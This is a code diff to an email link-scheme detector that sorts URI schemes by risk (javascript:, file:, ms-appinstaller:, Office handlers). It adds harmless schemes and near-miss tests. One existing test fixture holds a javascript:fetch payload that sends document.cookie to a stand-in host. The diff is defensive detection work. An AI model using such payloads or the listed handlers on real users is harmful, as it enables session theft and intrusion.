@@ -11,8 +11,9 @@ interface SchemeRule {
 
 const officeDocument = /^ms-(word|excel|powerpoint|visio|access|project|publisher|spd|infopath)$/;
 const activeData = /^data:\s*(text\/html|text\/javascript|application\/|image\/svg\+xml|text\/xml)/i;
-// Addressing schemes a mail client hands to the mail or phone app: listed in the pane, never a reason.
-const harmless: ReadonlySet<string> = new Set(['mailto', 'tel', 'sms', 'callto', 'cid', 'about', 'webcal']);
+// Schemes that address someone or name a document without running anything (the mail or phone app, an FTP download,
+// a manual page, an inline image): listed in the pane, never a reason.
+const harmless: ReadonlySet<string> = new Set(['mailto', 'tel', 'sms', 'callto', 'facetime', 'cid', 'mid', 'about', 'webcal', 'ftp', 'ftps', 'news', 'nntp', 'man', 'info', 'geo', 'xmpp']);
 
 // First matching rule wins; the data is the detection. Weights: running code or a diagnostic tool straight from a link
 // (Follina) highest, then handlers that show remote files as local or open Office documents from the internet.
@@ -23,10 +24,13 @@ const rules: readonly SchemeRule[] = [
   { matches: (l) => l.scheme === 'ms-appinstaller', weight: 40, opens: 'the Windows App Installer (ms-appinstaller:), which installs a program from the internet' },
   { matches: (l) => l.scheme === 'javascript' || l.scheme === 'vbscript', weight: 40, opens: 'a script (javascript: or vbscript:) instead of a page' },
   { matches: (l) => l.scheme === 'data' && activeData.test(l.url), weight: 40, opens: 'a whole web page or file hidden inside the link itself (data:)' },
+  { matches: (l) => l.scheme === 'data' || harmless.has(l.scheme), weight: 0, opens: '' },
   { matches: (l) => l.scheme === 'file' || l.scheme === 'smb', weight: 35, opens: 'a file or network share (file:) that can run a program or hand over your Windows sign-in' },
   { matches: (l) => officeDocument.test(l.scheme), weight: 30, opens: 'an Office document straight from the internet (ms-word:, ms-excel: …)' },
   { matches: (l) => l.scheme.startsWith('ms-'), weight: 25, opens: 'a Windows program through its ms- link handler' },
-  { matches: (l) => !harmless.has(l.scheme), weight: 10, opens: 'another program on this computer instead of a web page' },
+  { matches: (l) => l.scheme === 'itms-services' || l.scheme === 'intent', weight: 30, opens: 'an app installer on a phone (itms-services: or intent:)' },
+  // anything else: a rare handler or a typo ("hhttp:"); a hint, not a verdict
+  { matches: () => true, weight: 5, opens: 'another program on this computer instead of a web page' },
 ];
 
 export const detection: MailDetection = {
@@ -53,7 +57,7 @@ export const detection: MailDetection = {
     const byRule = new Map<SchemeRule, SchemeLink[]>();
     for (const l of m.schemeLinks) {
       const rule = rules.find((r) => r.matches(l));
-      if (!rule) continue;
+      if (!rule || rule.weight === 0) continue;
       byRule.set(rule, [...(byRule.get(rule) ?? []), l]);
     }
     const hits: DetectionHit[] = [];
@@ -79,6 +83,12 @@ export const detection: MailDetection = {
     },
     { name: 'javascript: written in a plain-text body', kind: 'true-positive', fires: true, mail: { from: 'A <a@example.org>', text: 'click javascript:fetch("//x.example/"+document.cookie)' } },
     { name: 'web links only', kind: 'true-negative', fires: false, mail: { from: 'A <a@example.org>', html: '<a href="https://example.org/report">report</a>' } },
-    { name: 'mailto: and tel: links', kind: 'near-miss', fires: false, mail: { from: 'A <a@example.org>', html: '<a href="mailto:help@example.org">write</a> or <a href="tel:+441234567890">call</a>' } },
+    {
+      name: 'mailto:, tel:, ftp: and inline-image data: links',
+      kind: 'near-miss',
+      fires: false,
+      mail: { from: 'A <a@example.org>', html: '<a href="mailto:help@example.org">write</a>, <a href="tel:+441234567890">call</a>, <a href="ftp://ftp.example.org/pub/">mirror</a>, <a href="data:image/png;base64,iVBORw0KGgo=">chart</a>' },
+    },
+    { name: 'File: and Search: written in prose', kind: 'near-miss', fires: false, mail: { from: 'A <a@example.org>', text: 'File:2920 attached. Search:the archive. JavaScript:the good parts' } },
   ],
 };
